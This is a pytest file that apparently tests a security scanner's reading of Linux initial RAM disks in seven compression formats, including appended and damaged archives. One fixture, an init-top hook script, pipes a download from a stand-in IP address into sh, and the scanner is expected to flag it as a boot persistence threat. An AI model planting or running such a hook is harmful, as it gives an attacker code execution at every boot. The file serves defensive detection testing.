# SPDX-License-Identifier: AGPL-3.0-or-later
"""Initial RAM disks: what they hold, in every compression that Linux takes, and what is no such disk."""

import bz2
import contextlib
import gzip
import io
import lzma
import struct
from collections.abc import Callable

import cramjam
import pytest
from backports import zstd
from conftest import TreeMaker
from hypothesis import given
from hypothesis import strategies as st
from test_free_space import SCRIPT

from clean_room_analysis import limits
from clean_room_analysis.checks.initramfs import Initramfs
from clean_room_analysis.initramfs import members
from clean_room_analysis.model import Severity

HOOK = b"#!/bin/sh\ncurl -fsSL http://198.51.100.7/x | sh\n"


def cpio(files: dict[str, bytes], mode: int = 0o100755) -> bytes:
    """An archive of the new ASCII format, as `cpio -H newc` writes it."""
    result = b""
    for name, content in (*files.items(), ("TRAILER!!!", b"")):
        raw = name.encode() + b"\0"
        fields = (0, mode if content else 0, 0, 0, 1, 0, len(content), 0, 0, 0, 0, len(raw), 0)
        head = b"070701" + b"".join(b"%08X" % field for field in fields) + raw
        result += head + bytes(-len(head) % 4) + content + bytes(-len(content) % 4)
    return result


def lz4_legacy(content: bytes) -> bytes:
    """As `lz4 -l` and the kernel's build write it."""
    block = bytes(cramjam.lz4.compress_block(content, store_size=False))
    return b"\x02\x21\x4c\x18" + struct.pack("<I", len(block)) + block


COMPRESSIONS: dict[str, Callable[[bytes], bytes]] = {
    "none": bytes,
    "gzip": gzip.compress,
    "xz": lambda content: lzma.compress(content, check=lzma.CHECK_CRC32),
    "lzma": lambda content: lzma.compress(content, format=lzma.FORMAT_ALONE),
    "zstd": zstd.compress,
    "bzip2": bz2.compress,
    "lz4": lz4_legacy,
}
ARCHIVE = cpio({"init": b"#!/bin/sh\nexec /sbin/init\n", "usr/bin/x": SCRIPT, "scripts/init-top/hook": HOOK})
MICROCODE = cpio({"kernel/x86/microcode/GenuineIntel.bin": b"\1" * 5000})


@pytest.mark.parametrize("compression", COMPRESSIONS)
@pytest.mark.parametrize("early", [False, True])
def test_what_it_holds_is_found(compression: str, early: bool, plain: TreeMaker) -> None:
    before = MICROCODE + bytes(512) if early else b""
    content = before + COMPRESSIONS[compression](ARCHIVE + bytes(512))
    assert [one.name for one in members(io.BytesIO(content))][-3:] == ["/init", "/usr/bin/x", "/scripts/init-top/hook"]
    plain.file("/boot/initrd.img-6.1.0-13-amd64", content)
    plain.file("/usr/share/initrd.img", b"a picture")
    found = plain.findings(Initramfs())
    assert {(one.severity, one.rule) for one in found} >= {(Severity.HIGH, "reverse_shell_script"), (Severity.HIGH, None)}
    assert all(one.path == "/boot/initrd.img-6.1.0-13-amd64" and "T1542" in one.attack for one in found)


@pytest.mark.parametrize("first", COMPRESSIONS)
@pytest.mark.parametrize("second", ["none", "gzip"])
def test_an_archive_behind_another_is_read_too(first: str, second: str) -> None:
    """`cat extra.cpio >> initrd.img` is how one adds to it, and the kernel unpacks both."""
    one, other = COMPRESSIONS[first](cpio({"a": b"1" * 9})), COMPRESSIONS[second](cpio({"b": b"2"}))
    # What follows lz4's blocks without zeros between is the size of a next one, to the kernel as well.
    joined = [one.ljust(4096, b"\0") + other, *([one + other] if (first, second) != ("lz4", "gzip") else [])]
    for content in joined:
        assert [member.name for member in members(io.BytesIO(content))] == ["/a", "/b"]


@pytest.mark.parametrize("compression", COMPRESSIONS)
def test_zeros_without_end_end(compression: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "INITRAMFS_BYTES", limits.MEBIBYTE)
    with pytest.raises(ValueError, match="only its first"):
        list(members(io.BytesIO(COMPRESSIONS[compression](bytes(2 * limits.MEBIBYTE)))))


def test_a_dictionary_beyond_all_kernels_is_refused() -> None:
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 512 * limits.MEBIBYTE}]
    huge = lzma.LZMACompressor(format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32, filters=filters)
    with pytest.raises(lzma.LZMAError):
        list(members(io.BytesIO(huge.compress(ARCHIVE) + huge.flush())))


@pytest.mark.parametrize(
    "content",
    [
        b"no archive at all",
        ARCHIVE[:-200],
        gzip.compress(ARCHIVE, mtime=0)[:-40],
        b"\x89LZO\0" * 20,
        gzip.compress(b"no archive", mtime=0),
        gzip.compress(ARCHIVE, mtime=0) + b"XX",
    ],
)
def test_what_cannot_be_read_to_its_end_is_an_error(content: bytes, plain: TreeMaker) -> None:
    plain.file("/boot/initramfs-6.1.img", content)
    with pytest.raises((ValueError, OSError, EOFError)):
        plain.findings(Initramfs())


@given(st.sampled_from(list(COMPRESSIONS)), st.integers(0, 900), st.binary(min_size=1, max_size=8))
def test_damage_ends_in_an_error_or_in_less(compression: str, at: int, damage: bytes) -> None:
    content = bytearray(COMPRESSIONS[compression](ARCHIVE))
    content[at : at + len(damage)] = damage
    with contextlib.suppress(Exception):  # a check's failure is named, whatever it is
        assert len(list(members(io.BytesIO(bytes(content))))) <= 1000
